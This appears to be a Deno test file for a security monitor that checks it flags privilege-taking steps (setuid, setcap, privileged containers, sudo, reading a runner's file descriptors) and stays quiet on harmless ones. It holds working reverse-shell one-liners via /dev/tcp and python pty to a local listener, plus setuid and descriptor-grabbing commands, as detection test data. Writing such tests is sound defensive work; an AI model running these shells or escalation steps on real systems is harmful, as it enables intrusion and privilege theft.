/** Real programs that take, keep or lend rights, each in a step of its own. */
import assert from "node:assert/strict";
import { Lab } from "../lab/lab.ts";
import { Guarding } from "./guarding.ts";
import { MemoryGround, privileges } from "./memory_ground.ts";

const NOBODY = 65_534;

/** Listens, types a command into whatever connects, and prints the answer. */
const LISTENER = `python3 - <<'END' &
import signal, socket
signal.alarm(20)
server = socket.create_server(("127.0.0.1", 4444))
print("listening", flush=True)
peer, _ = server.accept()
peer.sendall(b"echo answer=$((40+2)); exit\\n")
print(peer.makefile().read(), flush=True)
END
until grep -q ":115C 00000000:0000 0A" /proc/net/tcp; do sleep 0.1; done
`;

interface Act {
  readonly script: string;
  readonly rule: string;
  readonly reason: RegExp;
}

const BY_ROOT: Readonly<Record<string, Act>> = {
  "chmod": {
    script: "cp /bin/true $D/a && chmod u+s $D/a",
    rule: "setuid-made",
    reason: /^chmod asked for mode 4[0-7]{3} of .*\/a$/,
  },
  "install": {
    script: "install -m 4755 /bin/true $D/b",
    rule: "setuid-made",
    reason: /^install asked for mode 4755 of .*\/b$/,
  },
  "create": {
    script: `python3 -c 'import os, sys; os.umask(0); ` +
      `os.open(sys.argv[1], os.O_CREAT | os.O_WRONLY, 0o4755)' $D/c`,
    rule: "setuid-made",
    reason: /^python3[0-9.]* asked for mode 4755 of .*\/c$/,
  },
  "setcap": {
    script: "cp /bin/true $D/d && setcap cap_net_raw+ep $D/d",
    rule: "setuid-made",
    reason: /^setcap gave capabilities to .*\/d$/,
  },
  "tcp": {
    script: `${LISTENER} bash <>/dev/tcp/127.0.0.1/4444 >&0 2>&0; wait`,
    rule: "shell-on-socket",
    reason: /^bash has its input and output on a connection to 127\.0\.0\.1 /,
  },
  "pty": {
    script: `${LISTENER} python3 -c '
import os, pty, socket
peer = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2): os.dup2(peer.fileno(), fd)
pty.spawn("/bin/bash")'; wait`,
    rule: "shell-on-socket",
    reason: /^bash was started by one that has its input and output on a /,
  },
  "container": {
    script: "cp /bin/true $D/docker; $D/docker run --rm --privileged image",
    rule: "container-privileged",
    reason: /^docker started a container with .*privileged/,
  },
  "getfd": {
    // 438 is pidfd_getfd(2) on every machine.
    script: `test $PPID -gt 1 && python3 -c 'import ctypes, os, sys
call = ctypes.CDLL(None).syscall
assert call(438, os.pidfd_open(int(sys.argv[1])), 2, 0) >= 0' $PPID`,
    rule: "runner-memory",
    reason: /^python3[0-9.]* took a descriptor of Runner\.Worker /,
  },
};

const BY_USER: Readonly<Record<string, Act>> = {
  "sudo": {
    script: "! sudo -n id",
    rule: "sudo-used",
    reason: /^user 65534 used sudo: sudo -n id$/,
  },
  "su": {
    script: "! su -c id </dev/null",
    rule: "sudo-used",
    reason: /^user 65534 used su: su -c id$/,
  },
};

const HONEST = `cp /bin/true $D/h && chmod 755 $D/h && install -m 755 $D/h $D/i
mkdir $D/j && chmod g+s $D/j
cp /bin/true $D/docker; $D/docker run --rm -v $PWD:/work image
echo true | bash; sudo --version
${LISTENER} exec 5<>/dev/tcp/127.0.0.1/4444; read -r line <&5; exec 5>&-; wait`;

const GROUNDS = [
  { who: "root", user: undefined, acts: BY_ROOT },
  { who: "a user", user: NOBODY, acts: BY_USER },
];

for (const { who, user, acts } of GROUNDS) {
  Deno.test(`each step of ${who} that takes rights is an event, and no honest one`, async () => {
    await using lab = await Lab.up();
    await using ground = await MemoryGround.make(lab, user);
    const guard = await Guarding.arm(lab, { egress: "audit" });
    const scripts: Record<string, string> = {};
    const named = { ...acts, honest: { script: HONEST } };
    for (const [name, { script }] of Object.entries(named)) {
      scripts[name] = `mkdir $PWD/d-${name}; D=$PWD/d-${name}; ${script}`;
    }
    const printed = await ground.take([], scripts);
    await guard.stop();
    for (const [name, lines] of printed) {
      assert.equal(lines.at(-1), "exit 0", `${name}: ${lines.join(" ")}`);
    }
    for (const [name, { rule, reason }] of Object.entries(acts)) {
      const told = await privileges(guard, name);
      const found = told.find((event) =>
        event.rule === rule && reason.test(event.reason)
      );
      assert.ok(found !== undefined, `${name}: ${JSON.stringify(told)}`);
      assert.equal(found.denied, false);
      assert.ok((found.process?.pid ?? 0) > 1);
    }
    assert.deepEqual(await privileges(guard, "honest"), []);
  });
}
